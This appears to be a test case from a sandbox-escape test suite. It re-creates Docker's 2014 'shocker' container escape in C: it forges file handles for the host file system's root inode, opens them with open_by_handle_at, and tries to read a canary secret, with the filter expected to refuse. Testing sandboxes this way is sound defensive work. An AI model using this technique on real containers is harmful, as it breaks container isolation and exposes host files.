/* ESC-08 shocker: Docker's 2014 escape - forge a file handle for the root
 * inode of a bind-mounted host file system and open it with
 * open_by_handle_at, which bypasses the mount view; then walk to the
 * secret.  /usr and /canary-ro are binds of the host's root file system,
 * the one that holds the secret.  Both calls are forbidden by the filter
 * (EPERM), whatever the handle; were one let through, the kernel's own
 * check (CAP_DAC_READ_SEARCH in the initial namespace) would refuse too. */
#include "attack.h"

#include <fcntl.h>

struct handle {
	unsigned int handle_bytes;
	int handle_type;
	unsigned char f_handle[128];
};

int main(void)
{
	char name[96], path[4200], buf[256];
	const char *secret = canary("SECRET");
	const char *ro = canary("RO");
	/* step 1: learn the format from a real file of the host's fs */
	const char *const files[] = {"/usr/bin/true", ro, "/tmp"};
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		struct handle h = {.handle_bytes = sizeof(h.f_handle)};
		int mount_id;
		snprintf(name, sizeof(name), "name-to-handle-%zu", i);
		TRY(name, syscall(SYS_name_to_handle_at, AT_FDCWD, files[i], &h,
				  &mount_id, 0));
	}
	/* steps 2 and 3: a forged FILEID_INO32_GEN handle (inode, generation),
	 * inode 2 first (the root of ext4), on an fd of each host bind */
	const char *const mounts[] = {"/usr", ro};
	for (size_t m = 0; m < sizeof(mounts) / sizeof(mounts[0]); m++) {
		int mfd = open(mounts[m], O_RDONLY | O_DIRECTORY);
		for (unsigned ino = 2; ino < 10; ino++) {
			struct handle h = {.handle_bytes = 8, .handle_type = 1};
			memcpy(h.f_handle, &ino, 4); /* generation 0 */
			snprintf(name, sizeof(name),
				 "payoff-open-by-handle-mnt%zu-ino%u", m, ino);
			long fd =
				TRY(name, syscall(SYS_open_by_handle_at, mfd,
						  &h, O_RDONLY | O_DIRECTORY));
			if (fd < 0)
				continue;
			/* the walk: from the forged root to the secret, and up
			 */
			snprintf(path, sizeof(path), "%s",
				 secret[0] == '/' ? secret + 1 : secret);
			long s = TRY("payoff-openat-secret",
				     openat((int)fd, path, O_RDONLY));
			if (s >= 0) {
				ssize_t n = read((int)s, buf, sizeof(buf) - 1);
				escaped("read the secret by handle: %.*s",
					(int)(n > 0 ? n : 0), buf);
				close((int)s);
			}
			snprintf(path, sizeof(path), "../../../..%s", secret);
			TRY("payoff-openat-dotdot-secret",
			    openat((int)fd, path, O_RDONLY));
			close((int)fd);
		}
		if (mfd >= 0)
			close(mfd);
	}
	done();
	return 0;
}
